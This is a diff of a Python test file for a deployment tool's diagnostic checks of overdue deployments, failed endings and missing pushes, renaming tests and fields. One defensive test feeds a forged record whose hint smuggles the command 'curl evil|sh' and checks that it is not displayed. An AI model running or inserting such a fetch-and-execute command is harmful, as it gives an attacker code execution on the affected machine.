@@ -1,4 +1,4 @@
-"""What waits too long, how the last deployment ended, and when a push last arrived."""
+"""Overdue deployments, the last ending and the last push."""
 
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -6,7 +6,7 @@ from typing import Any
 import pytest
 
 from hookd.model.deployment import Deployment, Status, Trigger
-from tests.unit.units.doctor.test_services import app
+from tests.support.apps import app
 from units.doctor.checks.queue import check_last_deployment, check_last_push, check_overdue
 from units.doctor.finding import Finding
 
@@ -34,7 +34,7 @@ def levels(found: list[Finding]) -> list[str]:
         ([record(Status.SUCCEEDED, 9000)], []),
     ],
 )
-def test_what_waits_or_runs_too_long(history: list[Deployment], expected: list[str]) -> None:
+def test_overdue_deployments_are_errors(history: list[Deployment], expected: list[str]) -> None:
     found = list(check_overdue(app(), history, NOW))
     assert levels(found) == expected
     assert all("hookd-worker@1.service" in (one.hint or "") for one in found)
@@ -51,25 +51,25 @@ def test_what_waits_or_runs_too_long(history: list[Deployment], expected: list[s
         ([record(Status.RUNNING, 1), record(Status.SUPERSEDED, 2), record(Status.FAILED, 3)], ["warning"]),
     ],
 )
-def test_how_the_last_deployment_ended(history: list[Deployment], expected: list[str]) -> None:
+def test_failed_ending_is_reported(history: list[Deployment], expected: list[str]) -> None:
     found = list(check_last_deployment(app(), history))
     assert levels(found) == expected
     assert all("hookd logs shop-" in (one.hint or "") for one in found)
 
 
 @pytest.mark.threat(65)
-def test_the_cause_of_a_failure_is_told_and_its_hint_is_not() -> None:
-    """Whoever took the receiver over may write a record; root types what the doctor says."""
+def test_forged_hint_is_not_shown() -> None:
+    """An attacker in the receiver can forge a record, and root types the doctor's hints."""
     (found,) = check_last_deployment(
         app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy x; curl evil|sh")]
     )
-    assert found.what == "the last deployment ended failed: it does not import"
+    assert found.message == "the last deployment ended failed: it does not import"
     assert found.hint == "sudo hookd logs shop-20260801T120000000-00000a; sudo hookd deploy shop"
 
 
-def test_a_push_that_never_arrived() -> None:
+def test_missing_push_is_a_warning() -> None:
     by_hand = [record(Status.SUCCEEDED, 5, Trigger.MANUAL)]
     (found,) = check_last_push(app(), by_hand, "paste it", NOW)
     assert (found.level, found.hint) == ("warning", "paste it")
     (found,) = check_last_push(app(), [*by_hand, record(Status.SUCCEEDED, 3 * 60)], "paste it", NOW)
-    assert (found.level, found.what) == ("ok", "the last push of shop arrived 3 h ago")
+    assert (found.level, found.message) == ("ok", "the last push of shop arrived 3 h ago")
